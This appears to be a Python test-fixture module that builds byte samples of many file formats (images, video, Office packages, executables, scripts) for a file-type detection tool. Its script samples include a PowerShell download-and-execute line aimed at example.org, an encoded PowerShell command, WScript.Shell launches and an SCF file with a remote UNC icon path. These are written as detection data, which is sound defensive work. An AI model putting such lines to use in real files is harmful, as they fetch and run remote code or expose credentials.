"""Files of many kinds, made from bytes: what each is, and what else lies in it."""

import io
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Final

ODT: Final = "application/vnd.oasis.opendocument.text"
OPEN: Final = "application/vnd.openxmlformats-officedocument."
CLAMAV: Final = Path("/usr/share/clamav-testfiles")


def zipped(*members: tuple[str, str | bytes], stored: bool = False) -> bytes:
    """Return a ZIP archive."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            kind = zipfile.ZIP_STORED if name == "mimetype" else None
            archive.writestr(zipfile.ZipInfo(name) if kind is not None else name, content, kind)
    return file.getvalue()


def office(folder: str, content_type: str, *more: tuple[str, str]) -> bytes:
    """Return an Office Open XML document whose main part has this content type."""
    types = f'<Types><Override PartName="/{folder}/main.xml" ContentType="{content_type}"/></Types>'
    return zipped(("[Content_Types].xml", types), ("_rels/.rels", "x"), (f"{folder}/main.xml", "x"), *more)


def film(major: bytes, *compatible: bytes, rest: bytes = b"") -> bytes:
    """Return the beginning of an ISO base media file."""
    brands = major + bytes(4) + b"".join(compatible)
    return struct.pack(">I", 8 + len(brands)) + b"ftyp" + brands + b"\0\0\0\x10mdat" + bytes(8) + rest


def jpeg(picture: bytes = b"\1\2\3", comment: bytes = b"") -> bytes:
    """Return what has the segments of a JPEG."""
    note = b"\xff\xfe" + (len(comment) + 2).to_bytes(2) + comment if comment else b""
    return (
        b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
        + note
        + b"\xff\xda\0\x08\1\1\0\0\x3f\0"
        + picture
        + b"\xff\xd9"
    )


def png(*chunks: tuple[bytes, bytes]) -> bytes:
    """Return a PNG of one pixel, with more chunks."""
    parts = [(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)), *chunks]
    parts += [(b"IDAT", zlib.compress(bytes(4))), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        len(data).to_bytes(4) + name + data + zlib.crc32(name + data).to_bytes(4) for name, data in parts
    )


def bmp() -> bytes:
    """Return a bitmap of one pixel."""
    return b"BM" + struct.pack("<IHHIIIIHHIIIIII", 58, 0, 0, 54, 40, 1, 1, 1, 24, 0, 4, 0, 0, 0, 0) + bytes(4)


def program() -> bytes:
    """Return the header of a Windows program."""
    header = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    return b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + header + bytes(300)


GIF: Final = b"GIF89a\1\0\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2L\1\0;"
WEBP: Final = b"RIFF\x1a\0\0\0WEBPVP8L\r\0\0\0/\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0"
ELF: Final = Path("/bin/true").read_bytes()
RAR: Final = b"Rar!\x1a\7\1\0" + bytes(20)
SEVEN_ZIP: Final = b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24)
PDF: Final = b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n"
LNK: Final = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
ZIP: Final = zipped(("a.txt", "hello"))

FILMS: Final = (
    ("image/heic", film(b"heic", b"mif1", b"heic")),
    ("image/heic", film(b"mif1", b"mif1", b"heic")),
    ("image/heif", film(b"mif1", b"mif1")),
    ("image/avif", film(b"avif", b"mif1", b"miaf")),
    ("image/avif", film(b"mif1", b"avif", b"mif1")),
    ("image/heic-sequence", film(b"msf1", b"hevc")),
    ("image/x-canon-cr3", film(b"crx ", b"isom")),
    ("video/mp4", film(b"isom", b"iso2", b"mp41")),
    ("video/mp4", film(b"zzzz", b"isom")),
    ("video/mp4", film(b"MSNV", b"isom")),
    ("audio/x-m4a", film(b"M4A ", b"isom")),
    ("audio/mp4", film(b"M4B ", b"isom")),
    ("video/x-m4v", film(b"M4V ", b"isom")),
    ("video/quicktime", film(b"qt  ")),
    ("video/quicktime", b"\0\0\0\x08wide\0\0\0\x10mdat" + bytes(8)),
    ("video/3gpp", film(b"3gp5")),
    ("video/3gpp2", film(b"3g2a")),
)

_WORD, _EXCEL = "application/vnd.ms-word.", "application/vnd.ms-excel."
_POINT: Final = "application/vnd.ms-powerpoint."
PACKAGES: Final = (
    ("application/zip", ZIP),
    (OPEN + "wordprocessingml.document", office("word", OPEN + "wordprocessingml.document.main+xml")),
    (OPEN + "spreadsheetml.sheet", office("xl", OPEN + "spreadsheetml.sheet.main+xml")),
    (OPEN + "presentationml.presentation", office("ppt", OPEN + "presentationml.presentation.main+xml")),
    (OPEN + "wordprocessingml.template", office("word", OPEN + "wordprocessingml.template.main+xml")),
    (OPEN + "wordprocessingml.document", office("word", "unknown")),
    (_WORD + "document.macroenabled.12", office("word", _WORD + "document.macroEnabled.main+xml")),
    (_WORD + "template.macroenabled.12", office("word", _WORD + "template.macroEnabledTemplate.main+xml")),
    (_EXCEL + "sheet.macroenabled.12", office("xl", _EXCEL + "sheet.macroEnabled.main+xml")),
    (_EXCEL + "sheet.binary.macroenabled.12", office("xl", _EXCEL + "sheet.binary.macroEnabled.main")),
    (_POINT + "presentation.macroenabled.12", office("ppt", _POINT + "presentation.macroEnabled.main+xml")),
    (
        _WORD + "document.macroenabled.12",
        office("word", OPEN + "wordprocessingml.document.main+xml", ("word/vbaProject.bin", "x")),
    ),
    (
        _WORD + "document.macroenabled.12",
        office("word", "application/vnd.ms-word.document.macro&#69;nabled.main+xml"),
    ),
    (
        _EXCEL + "sheet.macroenabled.12",
        office("xl", OPEN + "spreadsheetml.sheet.main+xml", ("xl/macrosheets/sheet1.xml", "x")),
    ),
    (ODT, zipped(("mimetype", ODT))),
    ("application/epub+zip", zipped(("mimetype", "application/epub+zip"), ("META-INF/container.xml", "x"))),
    ("application/java-archive", zipped(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0"), ("A.class", "x"))),
    (
        "application/vnd.android.package-archive",
        zipped(("META-INF/MANIFEST.MF", "x"), ("classes.dex", "x"), ("AndroidManifest.xml", "x")),
    ),
    ("application/x-xpinstall", zipped(("manifest.json", "{}"), ("META-INF/mozilla.rsa", "x"))),
    ("model/3mf", zipped(("[Content_Types].xml", "x"), ("3D/3dmodel.model", "x"))),
    ("application/vnd.google-earth.kmz", zipped(("doc.kml", "x"))),
    ("application/zip", zipped(("mimetype", "image/png"), ("a", "b"))),
)  # fmt: skip

SCRIPTS: Final = (
    ("text/x-powershell", "IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')\r\n"),
    ("text/x-powershell", "param(\n  [string]$Name\n)\n$all = Get-ChildItem -Path $Name\nWrite-Host $all\n"),
    ("text/x-powershell", "#!/usr/bin/pwsh\nWrite-Host 1\n"),
    ("text/javascript", "var s = new ActiveXObject('WScript.Shell');\r\ns.Run('calc');\r\n"),
    ("text/javascript", "function f(a) {\n  return a + 1;\n}\nconst b = f(2);\nconsole.log(b);\n"),
    ("text/javascript", "import { a } from 'b';\nexport default function c() {}\n"),
    ("text/javascript", "#!/usr/bin/env node\nconsole.log(1)\n"),
    ("text/vbscript", 'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'),
    ("text/vbscript", "' a note\r\nOption Explicit\r\nDim a\r\nSub Main()\r\nEnd Sub\r\n"),
    ("text/vbscript.encode", "#@~^DgAAAA==\\ko$K6,JtbJqAQAAA==^#~@"),
    ("text/x-msdos-batch", "@echo off\r\nstart calc\r\n"),
    ("text/x-msdos-batch", 'setlocal\r\nset A=%TEMP%\\x\r\nif exist "%A%" del /q "%A%"\r\n'),
    ("text/x-msdos-batch", "powershell -NoProfile -EncodedCommand SQBFAFgA\r\n"),
    ("text/x-script.python", "#!/usr/bin/python3\nprint(1)\n"),
    ("text/x-script.python", "from os import path\n\ndef f(a):\n    return path.join(a)\n"),
    ("text/x-shellscript", "#!/bin/sh\necho x\n"),
    ("text/x-script", "#!/opt/tool\nx\n"),
    ("text/x-perl", "#! /usr/bin/env perl\nuse strict;\n"),
    ("text/x-php", "<?php echo 1; ?>\n"),
    ("application/hta", "<html><head><HTA:APPLICATION ID=a></head><body></body></html>"),
    ("application/x-wsf", "<?xml?><package><job><script language='VBScript'>x</script></job></package>"),
    ("text/scriptlet", "<?XML version='1.0'?><scriptlet><registration progid='x'/></scriptlet>"),
    ("application/x-mswinurl", "[InternetShortcut]\r\nURL=file://example.org/x\r\n"),
    ("application/x-mswinurl", "[{000214A0}]\r\nProp3=19,0\r\n[InternetShortcut]\r\nURL=x\r\n"),
    ("application/x-desktop", "# a note\n[Desktop Entry]\nType=Application\nExec=sh\n"),
    ("text/x-ms-regedit", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n"),
    ("text/x-ms-scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\example.org\\x\r\n"),
    ("image/svg+xml", "<!-- a note --><svg xmlns='http://www.w3.org/2000/svg'/>"),
)  # fmt: skip

PLAIN: Final = (
    "hello, how are you?\n",
    "You can run Get-Process in PowerShell to see what is there; then use Stop-Process on it.\n",
    "Set the table and end the evening. If it rains then call me, on error resume next week.\n",
    "function of the heart: to pump. return to sender; let it be; import duties; const\n",
    "# Title\n\nUse it like this:\n\n```js\nconst a = require('a');\nmodule.exports = a;\n```\n",
    "#include <stdio.h>\nint main(void) {\n  const int x = 1;\n  return x;\n}\n",
    'package main\n\nimport "fmt"\n\nfunc main() {\n\tvar x = 1;\n\tfmt.Println(x)\n}\n',
    "fn main() {\n    let mut x = 5;\n    let y = 6;\n    return;\n}\n",
    "SELECT a FROM b WHERE c = 1;\nset x = 1;\n",
    "2026-01-01 12:00:00 INFO start /api done\n2026-01-01 12:00:01 INFO echo reply\n",
    "- buy milk\n- call Bob\n- pause\n",
    "> from alice import nothing\nclass notes for today:\n",
    "#hashtag\n#!\n",
)  # fmt: skip
"""Texts that are no scripts, though they talk like some."""
